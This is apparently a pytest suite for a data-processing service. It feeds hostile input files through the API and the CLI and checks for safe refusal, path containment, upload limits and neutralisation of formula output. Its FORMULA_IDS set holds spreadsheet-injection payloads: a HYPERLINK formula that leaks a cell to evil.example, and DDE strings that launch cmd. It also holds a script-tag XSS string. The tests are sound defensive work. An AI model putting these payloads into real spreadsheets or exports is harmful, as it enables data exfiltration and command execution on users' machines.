"""The hostile-input corpus through the API and the CLI (files: ``tests/corpus/generate.py``).

For every file, ``tests/corpus/expected.py`` says what must happen: refused with an error code and
HTTP status, a run that fails with a code, or a run that succeeds with a named warning. Whatever
the outcome, after each file: no 5xx, no traceback in any response or CLI output, no run
directory for a run that did not succeed, nothing left in ``runs/.staging``, every succeeded run
intact (``sistack doctor``), and no file written outside the home (uploads live under
``datasets/<id>/upload.bin`` whatever name they were sent with).
"""

from __future__ import annotations

import csv as csvlib
import hashlib
import io
import json
import os
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from sistack.api.app import create_app
from sistack.cli import app as cli_app
from sistack.config import Settings
from sistack.io.store.artifacts import valid_id
from sistack.service.doctor import diagnose
from sistack.service.runs import UPLOAD_NAME, RunService
from tests.conftest import SMALL_ENV, small_settings
from tests.corpus.expected import ACCEPTED, CASES, FAILED, REFUSED, UPLOAD_LIMIT, Expect
from tests.corpus.generate import FILES, write

API = "/api/v1"
TRACES = ("Traceback", 'File "', "internal_error", "internal error")
FORMULA_IDS = {  # as written by generate.formulas (the tab before "=1+1" is stripped from ids)
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "=cmd|' /C notepad'!A1",
}


@pytest.fixture(scope="session")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("corpus")
    write(directory)
    return directory


def params() -> list[Any]:
    return [pytest.param(c, id=c.id) for c in CASES]


def test_every_corpus_file_has_one_expectation(corpus: Path) -> None:
    files = [c.file for c in CASES]
    assert len(files) >= 40
    assert sorted(files) == sorted(FILES) == sorted(p.name for p in corpus.iterdir())
    for case in CASES:
        assert case.outcome in (REFUSED, FAILED, ACCEPTED)
        assert (case.status is not None) == (case.outcome == REFUSED), case
        assert bool(case.where) == bool(case.code) or case.outcome != ACCEPTED, case


# --- what must hold after every file ---------------------------------------------------------


def no_trace(text: str) -> None:
    for marker in TRACES:
        assert marker not in text, text[:2000]


def files_under(root: Path) -> set[Path]:
    return {Path(d) / f for d, _, names in os.walk(root) for f in names}


def assert_home_is_clean(svc: RunService, outside: Path, before: set[Path]) -> None:
    """No half-written run, no staging leftover, nothing outside the home, uploads server-named."""
    report = diagnose(svc.store, svc.artifacts)
    assert report.ok, report.to_dict()["problems"]
    staging = svc.artifacts.root / ".staging"
    assert not staging.exists() or not any(staging.iterdir())
    home = svc.settings.home
    for path in files_under(outside) - before:
        assert path.is_relative_to(home), f"{path} was written outside the home"
    datasets = svc.settings.datasets_dir
    for path in files_under(datasets) if datasets.is_dir() else ():
        rel = path.relative_to(datasets)
        assert valid_id(rel.parts[0]) and rel.parts[1:] == (UPLOAD_NAME,), rel


def check_warning(
    case: Expect, manifest: dict[str, Any], quality: dict[str, Any], read: list[str] | None
) -> None:
    """The named warning is where the case says; files without one carry no read warning."""
    read_codes = {w["code"] for w in manifest["input"]["read_warnings"]}
    issues = {(i["code"], i["column"]) for i in quality["issues"]}
    assert manifest["mapping"]["columns"]["ID"] == "customer_id"
    assert quality["rows_used"] == case.customers
    if case.where == "read":
        assert case.code in read_codes
        if read is not None:  # the dataset as the upload answered it
            assert case.code in read
    elif case.where == "quality":
        assert (case.code, case.column) in issues, sorted(issues)
    else:
        assert read_codes == set()


def check_neutralised(text: str) -> None:
    """A CSV export of assignments: formula-like ids come back prefixed with an apostrophe."""
    ids = [row["customer_id"] for row in csvlib.DictReader(io.StringIO(text))]
    assert not [i for i in ids if i[:1] in ("=", "+", "-", "@", "\t", "\r")], ids
    assert {f"'{payload}" for payload in FORMULA_IDS} <= set(ids)


# --- API --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Served:
    client: TestClient
    settings: Settings
    outside: Path  # the folder holding the home: nothing may appear in it but under the home

    @property
    def service(self) -> RunService:
        service: RunService = self.client.app.state.service  # type: ignore[attr-defined]
        return service


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root = tmp_path_factory.mktemp("corpus-api")
    settings = small_settings(root / "home")
    with TestClient(create_app(settings)) as client:
        yield Served(client, settings, root)


def upload(client: TestClient, name: str | bytes, data: bytes) -> Any:
    """POST the file as multipart; a bytes name is sent raw (httpx would escape a NUL)."""
    if isinstance(name, str):
        files = {"file": (name, data, "application/octet-stream")}
        return client.post(f"{API}/datasets", files=files)
    boundary = b"corpus-boundary-7d1f"
    body = b"".join(
        (
            b"--" + boundary + b"\r\n",
            b'Content-Disposition: form-data; name="file"; filename="' + name + b'"\r\n',
            b"Content-Type: application/octet-stream\r\n\r\n",
            data,
            b"\r\n--" + boundary + b"--\r\n",
        )
    )
    headers = {"content-type": f"multipart/form-data; boundary={boundary.decode()}"}
    return client.post(f"{API}/datasets", content=body, headers=headers)


def dataset_ids(settings: Settings) -> set[str]:
    folder = settings.datasets_dir
    return {p.name for p in folder.iterdir() if p.name != ".incoming"} if folder.is_dir() else set()


def error_of(response: Any) -> tuple[int, str]:
    body = response.json()
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message", "details"}
    assert body["error"]["message"]
    return response.status_code, body["error"]["code"]


@pytest.mark.parametrize("case", params())
def test_api(case: Expect, corpus: Path, served: Served, tmp_path: Path) -> None:
    with ExitStack() as stack:
        if case.settings:  # its own app: the limit is a setting of the server
            settings = small_settings(tmp_path / "home", **case.settings)
            client = stack.enter_context(TestClient(create_app(settings)))
            served = Served(client, settings, tmp_path)
        before = files_under(served.outside)
        run_api_case(case, corpus, served)
        assert_home_is_clean(served.service, served.outside, before)


def run_api_case(case: Expect, corpus: Path, served: Served) -> None:
    client = served.client
    data = (corpus / case.file).read_bytes()
    datasets_before = dataset_ids(served.settings)
    response = upload(client, case.upload_name or case.file, data)
    no_trace(response.text)
    assert response.status_code < 500
    if case.outcome == REFUSED and case.stage == "upload":
        assert error_of(response) == (case.status, case.code)
        assert dataset_ids(served.settings) == datasets_before
        return
    assert response.status_code == 201, response.text
    dataset = response.json()
    assert dataset["filename"] == (case.filename or case.file)
    stored = served.settings.datasets_dir / dataset["id"] / UPLOAD_NAME
    assert hashlib.sha256(stored.read_bytes()).hexdigest() == dataset["sha256"]
    assert dataset["sha256"] == hashlib.sha256(data).hexdigest()

    options = {"k": case.k} if case.k else {}
    response = client.post(f"{API}/runs", json={"dataset_id": dataset["id"], **options})
    no_trace(response.text)
    if case.outcome == REFUSED:
        assert case.stage == "create"
        assert error_of(response) == (case.status, case.code)
        return
    assert response.status_code == 202, response.text
    run_id = response.json()["id"]
    client.app.state.jobs.wait(run_id, timeout=60)  # type: ignore[attr-defined]
    response = client.get(f"{API}/runs/{run_id}")
    no_trace(response.text)
    run = response.json()
    if case.outcome == FAILED:
        assert (run["status"], run["error"]["code"]) == ("failed", case.code)
        assert not (served.settings.artifacts / run_id).exists()
        manifest = client.get(f"{API}/runs/{run_id}/manifest")
        assert error_of(manifest) == (409, "run_not_ready")
        return
    assert (run["status"], run["error"], run["n_customers"]) == ("succeeded", None, case.customers)
    assert run["name"] == dataset["filename"]
    manifest = client.get(f"{API}/runs/{run_id}/manifest").json()
    quality = client.get(f"{API}/runs/{run_id}/quality").json()
    assert manifest["input"]["filename"] == dataset["filename"]
    check_warning(case, manifest, quality, [w["code"] for w in dataset["warnings"]])
    exported = client.get(f"{API}/runs/{run_id}/assignments", params={"format": "csv"})
    assert exported.status_code == 200
    if case.file == "formulas.csv":
        check_neutralised(exported.text)
    if case.file == "html.csv":  # JSON carries the text as data, unchanged, never as markup
        page = client.get(f"{API}/runs/{run_id}/assignments", params={"limit": 5})
        assert page.headers["content-type"] == "application/json"
        ids = {item["customer_id"] for item in page.json()["items"]}
        assert "<script>alert('id')</script>" in ids


# --- CLI --------------------------------------------------------------------------------------


def one_json(stdout: str) -> dict[str, Any]:
    lines = stdout.strip().splitlines()
    assert len(lines) == 1, stdout
    data = json.loads(lines[0])
    assert isinstance(data, dict)
    return data


@pytest.mark.parametrize("case", params())
def test_cli(case: Expect, corpus: Path, tmp_path: Path) -> None:
    settings = small_settings(tmp_path / "home", **case.settings)
    env = {"SISTACK_HOME": str(settings.home), **SMALL_ENV}
    env.update({f"SISTACK_{key.upper()}": str(value) for key, value in case.settings.items()})
    k = ["--k", str(case.k)] if case.k else []
    before = files_under(tmp_path)
    runner = CliRunner()
    result = runner.invoke(cli_app, ["run", str(corpus / case.file), "--json", *k], env=env)
    no_trace(result.output)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    data = one_json(result.stdout)
    svc = RunService(settings)
    try:
        if case.outcome != ACCEPTED:
            assert (result.exit_code, data["error"]["code"]) == (2, case.code), result.output
            if case.outcome == FAILED:
                assert svc.get_run(data["run_id"]).status == "failed"
                assert not (settings.artifacts / data["run_id"]).exists()
        else:
            assert result.exit_code == 0, result.output
            assert (data["status"], data["n_customers"]) == ("succeeded", case.customers)
            check_warning(case, svc.manifest(data["run_id"]), svc.quality(data["run_id"]), None)
            if case.file == "formulas.csv":
                out = tmp_path / "assignments.csv"
                args = ["export", data["run_id"], "--what", "assignments", "-o", str(out)]
                exported = runner.invoke(cli_app, args, env=env)
                assert exported.exit_code == 0, exported.output
                check_neutralised(out.read_text())
                out.unlink()
        assert_home_is_clean(svc, tmp_path, before)
    finally:
        svc.close()


# --- the body limit holds while the body streams in ------------------------------------------


def _post_streamed(
    client: TestClient, *, chunks: int, size: int, declare: bool
) -> tuple[list[dict[str, Any]], int]:
    """Send a multipart upload to the ASGI app chunk by chunk; count the chunks it pulled."""
    boundary = "stream-boundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
        "Content-Type: text/csv\r\n\r\n"
    ).encode()
    headers = [
        (b"host", b"testserver"),
        (b"content-type", f"multipart/form-data; boundary={boundary}".encode()),
    ]
    if declare:
        headers.append((b"content-length", str(len(head) + chunks * size).encode()))
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": f"{API}/datasets",
        "raw_path": f"{API}/datasets".encode(),
        "root_path": "",
        "query_string": b"",
        "headers": headers,
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 80),
    }
    pulled = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1
        if pulled > chunks:
            return {"type": "http.disconnect"}
        body = (head if pulled == 1 else b"") + b"1," * (size // 2)
        return {"type": "http.request", "body": body, "more_body": pulled < chunks}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    portal: Any = client.portal  # the test client's event loop, started with the app
    portal.call(client.app, scope, receive, send)
    return sent, pulled


@pytest.mark.parametrize("declare", [True, False], ids=["content-length", "chunked"])
def test_an_oversized_body_is_refused_before_it_is_buffered(tmp_path: Path, declare: bool) -> None:
    settings = small_settings(tmp_path / "home", max_upload_bytes=UPLOAD_LIMIT)
    size, chunks = 16 * 1024, 256  # 4 MB offered, 64 KB allowed
    with TestClient(create_app(settings)) as client:
        sent, pulled = _post_streamed(client, chunks=chunks, size=size, declare=declare)
    start, body = sent[0], b"".join(m.get("body", b"") for m in sent[1:])
    assert start["status"] == 413
    assert json.loads(body)["error"]["code"] == "file_too_large"
    # Declared too large: not one byte read. Streamed: stopped at the chunk that crossed the limit.
    assert pulled == (0 if declare else -(-UPLOAD_LIMIT // size))  # ceil: the head adds bytes
    incoming = settings.datasets_dir / ".incoming"
    assert not incoming.exists() or not any(incoming.iterdir())
